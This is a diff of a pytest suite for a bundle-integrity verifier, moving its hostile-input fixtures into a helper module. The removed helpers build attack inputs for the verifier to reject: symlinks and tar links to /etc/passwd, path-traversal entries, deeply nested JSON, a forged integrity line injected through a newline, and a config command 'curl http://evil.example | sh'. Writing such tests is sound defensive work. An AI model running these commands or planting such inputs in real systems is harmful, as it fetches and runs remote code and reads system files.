@@ -8,138 +8,36 @@ listing are checked; archives unpack under the test's own TMPDIR, which must end
 
 from __future__ import annotations
 
-import io
-import json
-import os
 import shutil
-import struct
 import subprocess
 import sys
-import tarfile
 import time
 from collections.abc import Callable
 from pathlib import Path
 
+import hostile as h
 import pytest
 from conftest import offline_env
 
-from provenance import formats
-from provenance.bundle import seal_folder
-
-TIMEOUT = 60  # seconds: a hang fails the test instead of blocking the suite
-
-
-def _edit(path: Path, fn: Callable[[dict], None]) -> None:
-    obj = json.loads(path.read_text())
-    fn(obj)
-    path.write_text(formats.dumps(obj))
-
-
-def _safetensors(header: dict, data: bytes) -> bytes:
-    raw = json.dumps(header).encode()
-    return struct.pack("<Q", len(raw)) + raw + data
-
-
-def _symlink(b: Path) -> None:
-    (b / "logs" / "evil.jsonl").symlink_to("/etc/passwd")
-
-
-def _fifo(b: Path) -> None:
-    os.mkfifo(b / "logs" / "pipe.log")
-
-
-def _tmp_link_to_folder(b: Path) -> None:
-    (b / ".x.tmp").symlink_to(b.parent)
-
-
-def _non_utf8_name(b: Path) -> None:
-    with open(os.fsencode(b) + b"/bad-\xff-name.txt", "wb") as f:
-        f.write(b"x")
-
-
-def _deep_manifest(b: Path) -> None:
-    (b / formats.MANIFEST).write_text("[" * 200_000 + "]" * 200_000)
-
-
-def _huge_int_metrics(b: Path) -> None:
-    with open(b / formats.METRICS, "a") as f:
-        f.write('{"step": ' + "9" * 5000 + ', "loss": 1.0}\n')
-    seal_folder(b)
-
-
-def _deep_run_json(b: Path) -> None:
-    (b / formats.RUN_JSON).write_text('{"x": ' + "[" * 5000 + "]" * 5000 + "}")
-    seal_folder(b)
-
-
-def _header_claims_2_60(b: Path) -> None:
-    (b / formats.MODEL_DIR / "model.safetensors").write_bytes(
-        _safetensors({"w": {"dtype": "F32", "shape": [2**58], "data_offsets": [0, 2**60]}}, bytes(16)))
-    seal_folder(b)
-
-
-def _checkpoint_step_abc(b: Path) -> None:
-    (b / formats.CHECKPOINT_DIR / "step-abc.safetensors").write_bytes(_safetensors({}, b""))
-    seal_folder(b)
-
-
-def _index_points_outside(b: Path) -> None:
-    _edit(b / formats.CHECKPOINT_INDEX, lambda i: i["checkpoints"][0].update(path="../../outside.safetensors"))
-    seal_folder(b)
-
-
-def _forged_pass_line(b: Path) -> None:
-    _edit(b / formats.MANIFEST, lambda m: m["predicate"]["resources"].append(
-        {"name": "x\nINTEGRITY    PASS  all files match", "algorithm": "sha256", "digest": "0" * 64}))
-
-
-def _tampered_command(b: Path) -> None:
-    _edit(b / formats.CONFIG_JSON, lambda c: c.update(argv=["sh", "-c", "curl http://evil.example | sh"]))
-    seal_folder(b)
-
-
-def _escaping_snapshot(b: Path) -> None:
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
-        info = tarfile.TarInfo("../escaped.py")
-        info.size = 1
-        tar.addfile(info, io.BytesIO(b"x"))
-    (b / formats.CODE_SNAPSHOT).write_bytes(buf.getvalue())
-    _edit(b / formats.CODE_JSON, lambda c: c.update(files={"../escaped.py": "sha256:" + "2d711642b726b04401627ca9fb"
-                                                           "ac32f5c8530fb1903cc4db02258717921a4881"},
-                                                    snapshot={**(c.get("snapshot") or {}), "file_count": 1}))
-    seal_folder(b)
-
-
-def _archive_with_link(b: Path) -> None:
-    arc = b.parent / "evil.tar.gz"
-    with tarfile.open(arc, "w:gz") as tar:
-        info = tarfile.TarInfo("run/run.json")
-        info.size = 2
-        tar.addfile(info, io.BytesIO(b"{}"))
-        link = tarfile.TarInfo("run/evil")
-        link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
-        tar.addfile(link)
-    shutil.rmtree(b)
-    arc.rename(b)  # the "bundle" is now the archive
+TIMEOUT = h.TIMEOUT
 
 
 # case -> (make it hostile, exit status, what the one line / the report must say)
 CASES: dict[str, tuple[Callable[[Path], None], int, str]] = {
-    "symlink": (_symlink, 2, "logs/evil.jsonl: a symbolic link to '/etc/passwd'"),
-    "fifo": (_fifo, 2, "logs/pipe.log: a FIFO"),
-    "tmp link to a folder": (_tmp_link_to_folder, 2, ".x.tmp: a symbolic link"),
-    "non-UTF-8 name": (_non_utf8_name, 2, "a file name that is not UTF-8"),
-    "deep manifest": (_deep_manifest, 2, "manifest.json: JSON nested too deeply"),
-    "5000-digit integer": (_huge_int_metrics, 1, "logs/metrics.jsonl: line"),
-    "deep run.json": (_deep_run_json, 1, "run.json: JSON nested too deeply"),
-    "header claims 2**60 bytes": (_header_claims_2_60, 1, "lie outside the file"),
-    "checkpoint step-abc": (_checkpoint_step_abc, 1, "step-abc.safetensors is not in the checkpoint index"),
-    "index points outside": (_index_points_outside, 1, "escapes the bundle"),
-    "forged INTEGRITY line": (_forged_pass_line, 1, "x\\nINTEGRITY    PASS"),
-    "tampered command": (_tampered_command, 1, "does not match its command_digest"),
-    "escaping snapshot": (_escaping_snapshot, 1, "'../escaped.py' escapes the destination"),
-    "archive with a link": (_archive_with_link, 2, "'run/evil' is a symbolic link"),
+    "symlink": (h.symlink, 2, "logs/evil.jsonl: a symbolic link to '/etc/passwd'"),
+    "fifo": (h.fifo, 2, "logs/pipe.log: a FIFO"),
+    "tmp link to a folder": (h.tmp_link_to_folder, 2, ".x.tmp: a symbolic link"),
+    "non-UTF-8 name": (h.non_utf8_name, 2, "a file name that is not UTF-8"),
+    "deep manifest": (h.deep_manifest, 2, "manifest.json: JSON nested too deeply"),
+    "5000-digit integer": (h.huge_int_metrics, 1, "logs/metrics.jsonl: line"),
+    "deep run.json": (h.deep_run_json, 1, "run.json: JSON nested too deeply"),
+    "header claims 2**60 bytes": (h.header_claims_2_60, 1, "lie outside the file"),
+    "checkpoint step-abc": (h.checkpoint_step_abc, 1, "step-abc.safetensors is not in the checkpoint index"),
+    "index points outside": (h.index_points_outside, 1, "escapes the bundle"),
+    "forged INTEGRITY line": (h.forged_pass_line, 1, "x\\nINTEGRITY    PASS"),
+    "tampered command": (h.tampered_command, 1, "does not match its command_digest"),
+    "escaping snapshot": (h.escaping_snapshot, 1, "'../escaped.py' escapes the destination"),
+    "archive with a link": (h.archive_with_link, 2, "'run/evil' is a symbolic link"),
 }
 
 
